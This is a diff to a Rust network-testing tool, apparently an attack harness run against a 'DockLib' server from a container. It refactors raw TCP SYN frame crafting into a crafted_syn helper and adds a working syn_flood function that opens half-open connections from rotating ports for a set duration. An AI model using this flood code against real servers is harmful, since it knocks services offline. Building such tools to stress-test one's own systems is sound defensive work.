@@ -254,36 +254,7 @@ pub fn syn_options(
         port: 20000,
         sent: 0,
     };
-    // a SYN with `opts` as its options (padded with NOPs to a multiple of four)
-    let syn = |peer: &Peer, port: u16, iss: u32, opts: &[u8]| {
-        let olen = opts.len().div_ceil(4) * 4;
-        let total = ETH + IPV4 + 20 + olen;
-        let mut f = vec![0u8; total];
-        write_ipv4_headers(
-            &mut f,
-            peer.ep.mac(),
-            peer.mac,
-            peer.ep.ip(),
-            *peer.to.ip(),
-            6,
-            total,
-        );
-        let t = &mut f[ETH + IPV4..];
-        t[0..2].copy_from_slice(&port.to_be_bytes());
-        t[2..4].copy_from_slice(&peer.to.port().to_be_bytes());
-        t[4..8].copy_from_slice(&iss.to_be_bytes());
-        t[12] = (((20 + olen) / 4) << 4) as u8;
-        t[13] = 0x02;
-        t[14..16].copy_from_slice(&65535u16.to_be_bytes());
-        t[20..20 + olen].fill(1);
-        t[20..20 + opts.len()].copy_from_slice(opts);
-        let mut p = TcpPacket::new_unchecked(&mut f[ETH + IPV4..]);
-        p.fill_checksum(
-            &IpAddress::Ipv4(peer.ep.ip()),
-            &IpAddress::Ipv4(*peer.to.ip()),
-        );
-        f
-    };
+    let syn = crafted_syn;
     let two_mss: &[u8] = &[2, 4, 0x02, 0x18, 2, 4, 0xff, 0xd7, 3, 3, 7];
     let mut crafted: Vec<Vec<u8>> = vec![
         syn(&peer, 20001, 1, &[2, 0, 0xff, 0xff]),
@@ -393,5 +364,89 @@ pub fn syn_options(
         "answer_bytes": got,
         "answer_complete": fin,
         "largest_segment": largest,
+    }))
+}
+
+/// A SYN from `port` with `opts` as its options (padded with NOPs to a multiple of four).
+fn crafted_syn(peer: &Peer, port: u16, iss: u32, opts: &[u8]) -> Vec<u8> {
+    let olen = opts.len().div_ceil(4) * 4;
+    let total = ETH + IPV4 + 20 + olen;
+    let mut f = vec![0u8; total];
+    write_ipv4_headers(
+        &mut f,
+        peer.ep.mac(),
+        peer.mac,
+        peer.ep.ip(),
+        *peer.to.ip(),
+        6,
+        total,
+    );
+    let t = &mut f[ETH + IPV4..];
+    t[0..2].copy_from_slice(&port.to_be_bytes());
+    t[2..4].copy_from_slice(&peer.to.port().to_be_bytes());
+    t[4..8].copy_from_slice(&iss.to_be_bytes());
+    t[12] = (((20 + olen) / 4) << 4) as u8;
+    t[13] = 0x02;
+    t[14..16].copy_from_slice(&65535u16.to_be_bytes());
+    t[20..20 + olen].fill(1);
+    t[20..20 + opts.len()].copy_from_slice(opts);
+    let mut p = TcpPacket::new_unchecked(&mut f[ETH + IPV4..]);
+    p.fill_checksum(
+        &IpAddress::Ipv4(peer.ep.ip()),
+        &IpAddress::Ipv4(*peer.to.ip()),
+    );
+    f
+}
+
+/// `dnattack syn-flood`: SYNs at a DockLib server from every port of this container's
+/// address in turn, for `seconds`, never completed (the server's SYN-ACKs are read and
+/// dropped; no reset goes back). Each one makes a half-open connection on the server's
+/// listener. Reports the SYNs sent and the SYN-ACKs seen.
+pub fn syn_flood(mut ep: Endpoint, to: SocketAddrV4, seconds: f64) -> Result<serde_json::Value> {
+    let mac = match ep.fc_peer_mac(*to.ip()) {
+        Some(m) => m,
+        None => ep
+            .resolve(*to.ip(), Duration::from_secs(2))
+            .context("no MAC for the server")?,
+    };
+    let mut peer = Peer {
+        buf: vec![0u8; ep.frame_size()],
+        ep,
+        mac,
+        to,
+        port: 0,
+        sent: 0,
+    };
+    let mut x = std::process::id() as u64 ^ 0x5bd1_e995;
+    let mss: &[u8] = &[2, 4, 0x05, 0xb4];
+    let (mut syn_acks, mut k) = (0u64, 0u32);
+    let end = Instant::now() + Duration::from_secs_f64(seconds.max(0.0));
+    while Instant::now() < end {
+        let port = 1024 + (k % 64000) as u16;
+        k = k.wrapping_add(1);
+        let f = crafted_syn(&peer, port, super::xorshift(&mut x) as u32, mss);
+        if peer.ep.send(&f).is_ok() {
+            peer.sent += 1;
+        } else {
+            peer.ep.flush();
+            peer.ep.idle(Duration::from_micros(50));
+        }
+        if k.is_multiple_of(32) {
+            peer.ep.flush();
+            while let Some((n, _)) = peer.ep.recv(&mut peer.buf) {
+                let f = &peer.buf[..n];
+                // a SYN-ACK: flags SYN and ACK in a TCP frame
+                if n >= ETH + IPV4 + 20 && f[ETH + 9] == 6 && f[ETH + IPV4 + 13] & 0x12 == 0x12 {
+                    syn_acks += 1;
+                }
+            }
+        }
+    }
+    peer.ep.flush();
+    Ok(json!({
+        "attack": "syn-flood",
+        "syns": peer.sent,
+        "syn_acks": syn_acks,
+        "seconds": seconds,
     }))
 }
